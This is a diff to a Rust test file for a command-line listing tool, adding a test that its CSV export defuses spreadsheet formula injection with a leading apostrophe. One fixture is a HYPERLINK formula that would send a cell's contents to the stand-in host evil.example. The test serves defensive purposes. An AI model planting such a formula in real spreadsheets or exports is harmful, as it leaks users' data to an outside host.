@@ -69,7 +69,7 @@ fn on_terminal(arguments: &[&str], path: &Path) -> String {
     let mut session = Session::run(command, &[("TERM", "dumb")]);
     session.ended();
     let bytes = session.output.lock().unwrap();
-    String::from_utf8(bytes.clone()).unwrap().replace("\r\n", "\n")
+    String::from_utf8(bytes.clone()).unwrap().replace("\r\n", "\n").replace("\r\n", "\n")
 }
 
 /// The characters that no output has between its lines and cells.
@@ -86,6 +86,7 @@ fn names_reach_a_terminal_only_escaped_in_every_format() {
     let folder = folder();
     for arguments in [
         &["list", "--format", "tsv"][..],
+        &["list", "--format", "csv"],
         &["list", "--format", "json"],
         &["list", "-q", "見本"],
         &["search", "見本"],
@@ -296,5 +297,38 @@ fn a_host_that_mixes_scripts_is_shown_in_ascii_beside_and_read_back_without() {
         let list: serde_json::Value =
             serde_json::from_str(&printed(&["list", "--format", "json"], &copy)).unwrap();
         assert_eq!(list[0]["url"], "http://\u{430}pple.jp/x");
+    }
+}
+
+#[test]
+fn formulas_run_in_no_spreadsheet_and_programs_get_them_verbatim() {
+    let folder = tempfile::tempdir().unwrap();
+    for (name, words) in [
+        ("a", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+        ("b", "\"見本ネット"),
+        ("c", "＠見本ネット"),
+    ] {
+        let page = page("見本")
+            .replace("見本\n\n", &format!("{words}\n\n"))
+            .replace("\t見本", &format!("\t{words}"));
+        fs::write(folder.path().join(name), page).unwrap();
+    }
+    let output = run(&["list", "--format", "csv"], folder.path());
+    let (csv, note) = (String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap());
+    let csv = csv.strip_prefix('\u{feff}').unwrap();
+    assert!(csv.lines().count() == 4 && csv.matches("\r\n").count() == 4, "{csv}");
+    let records: Vec<csv::StringRecord> =
+        csv::Reader::from_reader(csv.as_bytes()).records().map(Result::unwrap).collect();
+    let names: Vec<&str> = records.iter().map(|record| &record[1]).collect();
+    let tsv = printed(&["list", "--format", "tsv"], folder.path());
+    let verbatim: Vec<&str> = tsv.lines().skip(1).filter_map(|line| line.split('\t').nth(1)).collect();
+    assert!(verbatim[0].starts_with("=HYPERLINK(") && verbatim[2].starts_with('＠'), "{tsv}");
+    assert_eq!(names, [format!("'{}", verbatim[0]).as_str(), verbatim[1], &format!("'{}", verbatim[2])]);
+    let places = ["a:1", "c:1"].map(|place| format!("{}/{place}", folder.path().display()));
+    assert!(places.iter().all(|place| note.contains(place)) && note.contains('2'), "{note}");
+    // The head of a table and its own words are no formulas.
+    for own in [&["fields", "--format", "csv"][..], &["glossary", "--format", "csv"]] {
+        let output = command(own).output().unwrap();
+        assert!(output.status.success() && output.stderr.is_empty(), "{own:?}");
     }
 }
